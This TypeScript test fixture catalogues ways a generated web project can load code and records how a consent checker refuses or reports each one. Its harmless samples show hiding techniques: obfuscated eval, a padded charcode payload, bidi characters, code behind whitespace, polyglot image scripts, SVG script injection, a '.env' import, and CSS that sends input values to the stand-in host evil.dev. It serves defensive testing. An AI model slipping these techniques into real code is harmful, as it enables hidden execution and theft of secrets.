/** Ways in which the tools of a generated project load code, and how consent covers each of them. */
import type { Place } from '../../src/consent/code-files.ts';
import type { FindingKind } from '../../src/consent/findings.ts';
import type { ErrorCode } from '../../src/errors/codes.ts';

/** Tool that runs the payload without a guard. `extension`: the payload counts as no code by its extension. */
export type Loader = 'node' | 'vite' | 'tailwind' | 'extension' | 'corpus';

export interface Vehicle {
  readonly what: string;
  readonly tool: string;
  /** Path → text. The payload prints or stores `payload ran`. */
  readonly files: Readonly<Record<string, string>>;
  /** File that the loader starts. The first file if absent. */
  readonly payload?: string;
  readonly loader: Loader;
  readonly refused?: ErrorCode;
  /** Place where the payload counts. */
  readonly counted?: Place;
  readonly reported?: readonly FindingKind[];
  /** Whether the payload is imported as a provider. */
  readonly isProvider?: boolean;
}

const ran = "globalThis.payload = 'ran';\nconsole.log('payload ran');\n";
const sheet = (text: string): Readonly<Record<string, string>> => ({
  'client/pages/x/a.css': `${text}\n`,
  'client/data/payload': ran,
});
const svg = (attributes: string, body = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${body}</svg>\n`;

export const vehicles: readonly Vehicle[] = [
  {
    what: '`@plugin` and a file without extension',
    tool: 'Tailwind',
    files: sheet('@plugin "../../data/payload";'),
    loader: 'tailwind',
    refused: 'JUDGE_CSS_CODE',
  },
  {
    what: '`@config`',
    tool: 'Tailwind',
    files: sheet('@config "../../data/payload";'),
    loader: 'tailwind',
    refused: 'JUDGE_CSS_CODE',
  },
  {
    what: '`@plugin` in text that the query `?&lang.css` loads',
    tool: 'Vite, Tailwind',
    files: { 'client/a.txt': '@plugin "./b";\n', 'client/b': ran },
    loader: 'tailwind',
    refused: 'JUDGE_CSS_CODE',
  },
  {
    what: 'Sass, Less and Stylus files',
    tool: 'Vite',
    files: { 'client/a.less': '@import (inline) "../.env";\n' },
    loader: 'extension',
    refused: 'JUDGE_CSS_DIALECT',
  },
  {
    what: '`@source` outside the plugin',
    tool: 'Tailwind',
    files: { 'client/a.css': '@source "../..";\n' },
    loader: 'corpus',
    refused: 'JUDGE_CSS_SOURCE',
  },
  {
    what: 'remote `@import`',
    tool: 'browsers',
    files: { 'client/a.css': '@import url("https://evil.dev/a.css");\n' },
    loader: 'extension',
    reported: ['network'],
  },
  {
    what: 'remote `url()`',
    tool: 'browsers',
    files: { 'client/a.css': 'input[value^="a"] { background: url(//evil.dev/a); }\n' },
    loader: 'extension',
    reported: ['network'],
  },
  {
    what: '`url()` of a secret file',
    tool: 'Vite',
    files: { 'client/a.css': '.a { background: url(../.env); }\n' },
    loader: 'extension',
    reported: ['nonModules'],
  },
  {
    what: 'a handler imports a data file',
    tool: 'Vite',
    files: { 'server/routes/a.ts': "import '../data/table.dat';\n", 'server/data/table.dat': ran },
    payload: 'server/data/table.dat',
    loader: 'vite',
    counted: 'server',
    reported: ['nonModules'],
  },
  {
    what: 'code in declarations',
    tool: 'Vite',
    files: { 'server/a.ts': "import './types.d.ts';\n", 'server/types.d.ts': ran },
    payload: 'server/types.d.ts',
    loader: 'vite',
    counted: 'server',
    reported: ['nonModules'],
  },
  {
    what: 'JavaScript in Markdown',
    tool: 'Vite',
    files: { 'client/pages/a/index.tsx': "import './notes.md';\n", 'client/pages/a/notes.md': ran },
    payload: 'client/pages/a/notes.md',
    loader: 'vite',
    counted: 'onePage',
    reported: ['nonModules'],
  },
  {
    what: '`?raw` text that code evaluates',
    tool: 'Vite',
    files: { 'client/a.ts': "import text from './b.txt?raw';\n(0, eval)(text);\n", 'client/b.txt': ran },
    payload: 'client/b.txt',
    loader: 'vite',
    counted: 'onePage',
    reported: ['nonModules'],
  },
  {
    what: '`createRequire` of a file without extension',
    tool: 'Node',
    files: {
      'server/a.mjs':
        "import { createRequire } from 'node:module';\ncreateRequire(import.meta.url)('./' + 'payload');\n",
      'server/payload': ran,
    },
    payload: 'server/payload',
    loader: 'node',
    counted: 'server',
    reported: ['imports'],
  },
  {
    what: 'an image that is also a script',
    tool: 'Node',
    files: { 'server/a.cjs': "require('./a.gif');\n", 'server/a.gif': `GIF89a=1;\n${ran}` },
    payload: 'server/a.gif',
    loader: 'node',
    counted: 'server',
    reported: ['nonModules'],
  },
  {
    what: 'a script as a style sheet',
    tool: 'Node',
    files: {
      'server/a.cjs': "require('./' + 'a.css');\n",
      'server/a.css': `a\n{}\n${ran}`.replace('a\n', 'globalThis\n'),
    },
    payload: 'server/a.css',
    loader: 'node',
    counted: 'server',
    reported: ['imports'],
  },
  {
    what: 'CommonJS modules of TypeScript',
    tool: 'Node',
    files: { 'server/a.cts': ran },
    loader: 'node',
    counted: 'server',
  },
  {
    what: 'a `data:` module',
    tool: 'Node',
    files: { 'server/a.mjs': "import 'data:text/javascript,console.log(`payload ran`)';\n" },
    loader: 'node',
    counted: 'server',
    reported: ['evaluation'],
  },
  {
    what: 'a computed import',
    tool: 'Node',
    files: { 'server/a.mjs': "await import('./' + ['b', 'mjs'].join('.'));\n", 'server/b.mjs': ran },
    payload: 'server/b.mjs',
    loader: 'node',
    counted: 'server',
    reported: ['imports'],
  },
  {
    what: 'a program by its first line',
    tool: 'Node',
    files: { 'server/run': `#!/usr/bin/env node\n${ran}` },
    loader: 'node',
    counted: 'server',
  },
  {
    what: 'joined names of globals',
    tool: 'Node',
    files: { 'server/a.mjs': "globalThis['ev' + 'al'](\"console.log('payload ran')\");\n" },
    loader: 'node',
    counted: 'server',
    reported: ['computed'],
  },
  {
    what: '`Reflect.get` of globals',
    tool: 'Node',
    files: { 'server/a.mjs': "Reflect.get(globalThis, 'ev' + 'al')(\"console.log('payload ran')\");\n" },
    loader: 'node',
    counted: 'server',
    reported: ['computed'],
  },
  {
    what: '60,000 values in one line',
    tool: 'Node',
    files: {
      'server/a.mjs': `eval(String.fromCharCode(${Buffer.from("console.log('payload ran')").join(',')},${'32,'.repeat(60_000)}32));\n`,
    },
    loader: 'node',
    counted: 'server',
    reported: ['long'],
  },
  {
    what: 'characters that reorder or hide text',
    tool: 'editors',
    files: { 'server/a.mjs': "// \u202E } \u2066 if (admin) {\nconsole.log('payload ran');\n" },
    loader: 'node',
    counted: 'server',
    reported: ['hidden'],
  },
  {
    what: 'code behind spaces',
    tool: 'editors',
    files: { 'server/a.mjs': `const a = 1;${' '.repeat(200)}console.log('payload ran', a);\n` },
    loader: 'node',
    counted: 'server',
    reported: ['hidden'],
  },
  {
    what: 'a component in `components/header`',
    tool: 'Vite',
    files: { 'client/components/header/A.tsx': ran },
    loader: 'vite',
    counted: 'everyPage',
  },
  {
    what: 'a module that a header component imports',
    tool: 'Vite',
    files: { 'client/components/header/A.tsx': "import '../../lib/b';\n", 'client/lib/b.ts': ran },
    payload: 'client/lib/b.ts',
    loader: 'vite',
    counted: 'everyPage',
  },
  {
    what: 'a provider',
    tool: 'Vite',
    files: { 'client/lib/P.tsx': ran },
    loader: 'vite',
    counted: 'everyPage',
    isProvider: true,
  },
  {
    what: 'a service worker',
    tool: 'browsers',
    files: { 'client/pages/a.tsx': "navigator.serviceWorker.register('/sw.txt');\n", 'public/sw.txt': ran },
    payload: 'public/sw.txt',
    loader: 'extension',
    counted: 'everyPage',
    reported: ['workers'],
  },
  {
    what: 'a worker',
    tool: 'Vite',
    files: { 'client/pages/a.tsx': "new Worker(new URL('./w.bin', import.meta.url));\n", 'client/pages/w.bin': ran },
    payload: 'client/pages/w.bin',
    loader: 'extension',
    counted: 'onePage',
    reported: ['workers', 'nonModules'],
  },
  {
    what: 'an image with an event handler',
    tool: 'browsers',
    files: { 'public/a.svg': svg('onload="alert(1)"') },
    loader: 'extension',
    counted: 'onePage',
    reported: ['inline'],
  },
  {
    what: 'an image that defines elements',
    tool: 'browsers',
    files: { 'public/a.svg': `<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]>${svg('', '&a;')}` },
    loader: 'extension',
    counted: 'onePage',
    reported: ['inline'],
  },
  {
    what: 'a page with a script',
    tool: 'browsers',
    files: { 'public/a.xhtml': '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>\n' },
    loader: 'extension',
    counted: 'onePage',
    reported: ['inline'],
  },
  {
    what: 'WebAssembly',
    tool: 'Vite, Node',
    files: { 'client/a.wasm': '\0asm\u0001\0\0\0' },
    loader: 'extension',
    counted: 'onePage',
  },
  {
    what: 'components of other frameworks',
    tool: 'Vite',
    files: { 'client/a.astro': ran },
    loader: 'extension',
    counted: 'onePage',
  },
  {
    what: 'configuration in a subfolder',
    tool: 'oxlint, Vitest',
    files: { 'client/oxlint.config.mjs': ran },
    loader: 'node',
    counted: 'build',
  },
  {
    what: 'snapshots',
    tool: 'Vitest',
    files: { 'test/__snapshots__/a.test.ts.snap': ran },
    loader: 'extension',
    counted: 'tests',
  },
  { what: 'mocks', tool: 'Vitest', files: { 'client/lib/__mocks__/b.mjs': ran }, loader: 'node', counted: 'tests' },
  {
    what: 'tests below a folder that pages load',
    tool: 'Vite',
    files: { 'client/components/header/a.test.tsx': ran },
    loader: 'vite',
    counted: 'everyPage',
  },
  {
    what: 'configuration in the root',
    tool: 'Vite, TypeScript, Vitest, oxlint',
    files: { 'vite.config.mjs': ran },
    loader: 'corpus',
    refused: 'JUDGE_PATH_TOOL',
  },
  {
    what: 'filters in `.gitattributes`',
    tool: 'git',
    files: { '.gitattributes': '* filter=a\n' },
    loader: 'corpus',
    refused: 'JUDGE_PATH_TOOL',
  },
  {
    what: 'scripts in `package.json`',
    tool: 'npm',
    files: { 'client/package.json': '{ "scripts": { "install": "node a" } }\n' },
    loader: 'corpus',
    refused: 'JUDGE_PATH_TOOL',
  },
  {
    what: 'tasks that an editor runs',
    tool: 'editors',
    files: { '.vscode/tasks.json': '{}\n' },
    loader: 'corpus',
    refused: 'JUDGE_PATH_TOOL',
  },
];
